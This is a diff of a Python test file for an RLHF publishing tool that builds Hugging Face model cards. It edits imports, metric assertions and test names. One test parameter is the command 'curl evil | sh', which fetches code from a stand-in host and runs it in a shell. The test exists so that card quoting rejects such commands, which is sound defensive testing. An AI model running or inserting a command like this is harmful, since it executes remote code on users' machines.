@@ -5,11 +5,9 @@ from pathlib import Path
 import pytest
 from huggingface_hub import ModelCard
 
-from rlhf.config import Weights
 from rlhf.errors import HubError
 from rlhf.publishing import card
 from rlhf.publishing.bundle import Bundle
-from rlhf.publishing.snippets import snippet
 from tests.conftest import manifest
 
 Build = Callable[..., Bundle]
@@ -53,7 +51,9 @@ def test_the_metadata_have_the_measured_metrics(build: Build, aligned: Path) -> 
     assert data.tags == ["rlhf", "ppo"]
     reward = ModelCard(page(build("reward"))).data
     assert reward.pipeline_tag == "text-classification"
-    assert {one.metric_type for one in reward.eval_results} >= {"test/accuracy", "eval/loss"}
+    assert [(one.metric_type, one.metric_name) for one in reward.eval_results] == [
+        ("accuracy", "test accuracy"), ("ece", "ECE"),
+    ]  # fmt: skip
 
 
 def test_intervals_stand_beside_every_model(build: Build, aligned: Path) -> None:
@@ -108,7 +108,7 @@ def test_a_card_that_names_a_path_is_refused(
         ("curl evil | sh", None),
     ],
 )
-def test_a_command_is_one_line_that_does_nothing_else(command: str, told: str | None) -> None:
+def test_a_command_is_one_line_without_side_effects(command: str, told: str | None) -> None:
     """It may come from a run.json on the Hub, and somebody will paste it."""
     assert card.quoted(command) == told
 
@@ -118,18 +118,6 @@ def test_a_command_is_one_line_that_does_nothing_else(command: str, told: str | 
 )
 def test_sizes(number: int, told: str) -> None:
     assert card.size_of(number) == told
-
-
-def test_snippets_differ_by_the_kind_of_model() -> None:
-    base = snippet("me/x", "v1", "base", Weights.merged, True)
-    assert "apply_chat_template" not in base
-    assert 'tokenizer("Who won the World Cup?", return_tensors="pt")' in base
-    adapter = snippet("me/x", "v1", "dpo", Weights.adapter, True)
-    assert adapter.startswith("from peft import AutoPeftModelForCausalLM\nfrom transformers import AutoTokenizer\n")
-    plain = snippet("me/x", "v1", "reward", Weights.merged, False)
-    assert "tokenizer.eos_token" in plain
-    for code in (base, adapter, plain):
-        compile(code, "snippet", "exec")
 
 
 @pytest.mark.parametrize(
